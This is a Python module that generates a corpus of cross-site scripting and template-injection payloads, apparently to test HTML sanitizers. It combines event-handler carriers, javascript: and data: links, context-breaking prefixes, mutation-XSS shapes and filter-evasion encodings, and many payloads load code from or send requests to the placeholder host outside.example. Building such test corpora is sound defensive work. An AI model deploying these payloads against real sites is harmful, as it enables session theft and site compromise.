"""Texts that would run something, ask somebody or break out of where they stand, if any page took them for markup.

Made by rule, always the same ones: what runs, what carries it, what ends the place that it stands in, how it is written. A text that runs
calls xssRan(number), opens a dialogue, leaves the page or asks OUTSIDE. Sources of the shapes: the HTML Standard §13.2
(tokenization) and §8.1.8 (event handler attributes), SVG 2 §2.2, "mXSS Attacks" (Heiderich et al., CCS 2013), OWASP "XSS Filter Evasion".
"""

import random
from collections.abc import Callable, Iterator
from functools import cache
from itertools import count, product

OUTSIDE = "outside.example"

_RUNS = (
    "xssRan({n})", "alert({n})", "top.xssRan({n})", "fetch('//outside.example/{n}')", "location='//outside.example/{n}'",
    "import('//outside.example/{n}.js')", "self['xss'+'Ran']({n})", "setTimeout('xssRan({n})')", "[{n}].map(xssRan)",
    "xssRan`{n}`", "new Image().src='//outside.example/{n}'", "document.body.innerHTML='<img src=//outside.example/{n}>'",
    "navigator.sendBeacon('//outside.example/{n}')", "(0,eval)('xssRan({n})')", "Function('xssRan({n})')()", "open('//outside.example/{n}')",
)  # fmt: skip
_CARRIERS = (
    "<script>{js}</script>", "<script src=//outside.example/{n}.js></script>", "<img src=x onerror={js}>", "<img src=//outside.example/{n}.png>",
    "<svg onload={js}>", "<svg><script>{js}</script></svg>", "<svg><animate onbegin={js} attributeName=x dur=1s>", "<svg><set onbegin={js}>",
    "<svg><a xlink:href=javascript:{js}><text y=20>x</text></a>", "<svg><image href=//outside.example/{n}.svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>{js}</script></svg>#x'>",
    "<svg><foreignObject><body onload={js}></foreignObject>", "<body onload={js}>", "<video src=x onerror={js}>", "<audio src=x onerror={js}>",
    "<video><source onerror={js}></video>", "<video poster=//outside.example/{n}.png>", "<details open ontoggle={js}>", "<input autofocus onfocus={js}>",
    "<select autofocus onfocus={js}>", "<textarea autofocus onfocus={js}>", "<button autofocus onfocus={js}>x</button>",
    "<a autofocus href=x onfocus={js}>x</a>", "<div tabindex=0 autofocus onfocus={js}>", "<div contenteditable autofocus onfocus={js}>",
    "<iframe onload={js}>", "<iframe src=javascript:{js}>", "<iframe srcdoc='<script>parent.{js}</script>'>", "<iframe src=//outside.example/{n}>",
    "<object data=javascript:{js}>", "<object data=//outside.example/{n}>", "<embed src=javascript:{js}>", "<embed src=//outside.example/{n}>",
    "<marquee onstart={js}>x</marquee>", "<math href=javascript:{js}>x</math>", "<a href=javascript:{js}>x</a>", "<form action=javascript:{js}><button>x",
    "<form><button formaction=javascript:{js}>x", "<isindex type=image src=1 onerror={js}>", "<link rel=stylesheet href=//outside.example/{n}.css>",
    "<link rel=prefetch href=//outside.example/{n}>", "<link rel=modulepreload href=//outside.example/{n}.js>", "<style>@import '//outside.example/{n}.css';</style>",
    "<style>body{{background:url(//outside.example/{n})}}</style>", "<p style=background:url(//outside.example/{n})>x</p>",
    "<style>@keyframes x{{}}</style><p style=animation-name:x onanimationstart={js}>", "<meta http-equiv=refresh content='0;url=//outside.example/{n}'>",
    "<base href=//outside.example/>", "<template shadowrootmode=open><img src=x onerror={js}></template>", "<table background=//outside.example/{n}.png>",
    "<bgsound src=//outside.example/{n}>", "<applet code=x archive=//outside.example/{n}>", "<frameset onload={js}>", "<dialog open onclose={js}><form method=dialog><button autofocus>x",
    "<p popover=manual onbeforetoggle={js}>x", "<div onpointerover={js}>x</div>", "<xss onclick={js} tabindex=1 id=x>", "<script type=module>{js}</script>",
    '<script type=importmap>{{"imports":{{"./dom.js":"//outside.example/{n}.js"}}}}</script>', "<script>//<!--\n{js}\n//--></script>",
    '<noscript><p title="</noscript><img src=x onerror={js}>">', '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={js}&gt;">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror={js}>", '<svg></p><style><a id="</style><img src=1 onerror={js}>">',
    "<listing><img src=x onerror={js}></listing>", "<xmp><img src=x onerror={js}></xmp>", "<!--><img src=x onerror={js}>-->", "<![CDATA[<img src=x onerror={js}>]]>",
    "<? <img src=x onerror={js}> ?>", "</ <img src=x onerror={js}>>", "<!doctype <img src=x onerror={js}>>", "<img src=`x` onerror={js}>", "<img/src/onerror={js}>",
    "<img src=x onerror\n=\n{js}>", "<img src=x\x0conerror={js}>", "<img src=x:x onerror={js} //", "<<script>{js}//<</script>", "<scr<script>ipt>{js}</scr</script>ipt>",
    "<SCRIPT/XSS>{js}</SCRIPT>", '<script\x20type="text/javascript">{js};</script>', "<a id=forms><a id=forms name=action href=//outside.example/{n}>",
    "<img name=querySelector><form id=body>", "<portal src=//outside.example/{n}>", "<fencedframe src=//outside.example/{n}>", "<image src=x onerror={js}>",
    "<input type=image src=x onerror={js}>", "<track src=//outside.example/{n}.vtt default>", "<picture><source srcset=//outside.example/{n}.png><img>",
    "<img srcset='//outside.example/{n}.png 1x'>", "<menu><menuitem onclick={js}>", "<keygen autofocus onfocus={js}>", "<desk-chat onclick={js}>", "<script for=window event=onload>{js}</script>",
)  # fmt: skip
_LINKS = (
    "javascript:{js}", "JaVaScRiPt:{js}", "java\tscript:{js}", "java\nscript:{js}", " javascript:{js}", "\x01javascript:{js}", "javascript&colon;{js}",
    "data:text/html,<script>{js}</script>", "data:text/html;base64,PHNjcmlwdD54c3NSYW4oMSk8L3NjcmlwdD4=", "vbscript:{js}", "view-source:javascript:{js}",
    "blob:https://outside.example/{n}", 'https://outside.example/{n}"onmouseover="{js}', "https://outside.example/{n}'onmouseover='{js}",
    'http://outside.example/{n}"><img src=x onerror={js}>', "http://a.example/<script>{js}</script>", "https://a.example/`onclick={js}`",
    "[x](javascript:{js})", "![x](//outside.example/{n}.png)", '![x](x"onerror="{js})', "<javascript:{js}>", "[x]: javascript:{js}\n[x]", '<https://a.example/"onclick={js}>',
    "mailto:a@b.example?subject=<script>{js}</script>", '"<script>{js}</script>"@a.example', 'tel:+48600"onclick="{js}', "//outside.example/{n}", "\\\\outside.example\\{n}",
)  # fmt: skip
_TEMPLATES = (
    "{{{{ {js} }}}}", "{{% import os %}}{{{{ {n}*7 }}}}", "${{{js}}}", "#{{{js}}}", "<%= {js} %>", "{{{{''.__class__.__mro__[1].__subclasses__()}}}}", "{{{{constructor.constructor('{js}')()}}}}",
    "{{{{request|attr('application')}}}}", "{{#with}}{js}{{/with}}", "[[${{{js}}}]]", "@({js})", "{{php}}{js}{{/php}}", "%{{{js}}}",
)  # fmt: skip
_ENDS = (
    "", '">', "'>", "`>", "-->", "]]>", "</textarea>", "</title>", "</script>", "</style>", "</template>", "</svg>", "</pre>", "</select>", "</option>", "</bdi>",
    "</noscript>", "</iframe>", "*/", "\r\n\r\n", "\u2028", '\\">', "\\u0022\\u003e", "&quot;>", "%22%3E", '"/>', "'/>", '\x00">', "</a>", "</p></li></ol></section></article></main>",
    "{{", "}}", "<!--", '"}</script>', "');", '");',
)  # fmt: skip
_INSIDE = (  # without a bracket: what ends an attribute and adds another
    '" onmouseover="{js}', "' onmouseover='{js}", '" autofocus onfocus="{js}', "' autofocus tabindex=1 onfocus='{js}", " onmouseover={js} ", '" style="background:url(//outside.example/{n})',
    '"onload="{js}', 'x" src="//outside.example/{n}', '" formaction="javascript:{js}', '" href="javascript:{js}', '" id="forms" name="body', '" data-region="" id="main',
    '" data-command="ticket.reply', '" http-equiv="refresh" content="0;url=//outside.example/{n}', '" is="desk-chat',
)  # fmt: skip


def _plain(text: str) -> str:
    return text


def _mixed_case(text: str) -> str:
    return "".join(each.upper() if place % 2 else each for place, each in enumerate(text))


_WRITINGS: tuple[Callable[[str], str], ...] = (
    _plain,
    lambda text: text.replace("<", "&lt;").replace(">", "&gt;"),
    lambda text: text.replace("<", "&#60;").replace(">", "&#x3e;"),
    lambda text: text.replace("&", "&amp;").replace("<", "&amp;lt;"),
    lambda text: text.replace("<", "%3C").replace(">", "%3E"),
    lambda text: text.replace("<", "\\u003c").replace(">", "\\u003e"),
    lambda text: text.replace("<", "\\x3c").replace(">", "\\x3e"),
    lambda text: text.replace("<", "\uff1c").replace(">", "\uff1e"),
    lambda text: text.replace("<", "+ADw-").replace(">", "+AD4-"),
    lambda text: text.replace("<", "<\x00"),
    lambda text: text.replace("on", "o\u200bn"),
    lambda text: text.replace(" ", "/"),
    lambda text: text.replace(" ", "\t"),
    lambda text: text.replace(">", ""),
    lambda text: f"\u202e{text}\u202c",
    lambda text: text.replace("<", "\u02c2"),
    lambda text: f"{'x' * 300}{text}",
    lambda text: f"\ufeff{text}",
    lambda text: text.replace("<", "<<"),
    lambda text: text.replace("=", "\u0009=\u0009"),
    _mixed_case,
)


def payloads(most: int) -> list[str]:
    """Return so many different texts, each with its number; the simplest forms of everything stand first."""
    found: dict[str, None] = {}
    for number, text in zip(count(1), _texts(), strict=False):
        filled = text.replace("{n}", str(number))
        found[filled] = None
        if len(found) == most:
            break
    return list(found)


@cache
def _all() -> tuple[str, ...]:
    """Every combination of an end, a carrier and a way of writing, mixed, always in the same order."""
    combined = [
        write(f"{end}{carrier}") for end, carrier, write in product(_ENDS, (*_CARRIERS, *_LINKS), _WRITINGS)
    ]
    random.Random(20261122).shuffle(combined)
    return tuple(combined)


def _texts() -> Iterator[str]:
    simple = (*_CARRIERS, *_LINKS, *_TEMPLATES, *_INSIDE)
    for place, text in enumerate(simple):
        yield _running(text, place)
    for place, end in enumerate(_ENDS[1:]):
        yield _running(f"{end}<img src=x onerror={{js}}>", place)
    for place, write in enumerate(_WRITINGS[1:]):
        yield write(_running("<img src=x onerror={js}>", place))
    for place, text in enumerate(_all()):
        yield _running(text, place)


def _running(text: str, place: int) -> str:
    """Put what runs into a carrier, and leave the number open."""
    runs = _RUNS[place % len(_RUNS)]
    return text.replace("{js}", runs).replace("{{", "{").replace("}}", "}")
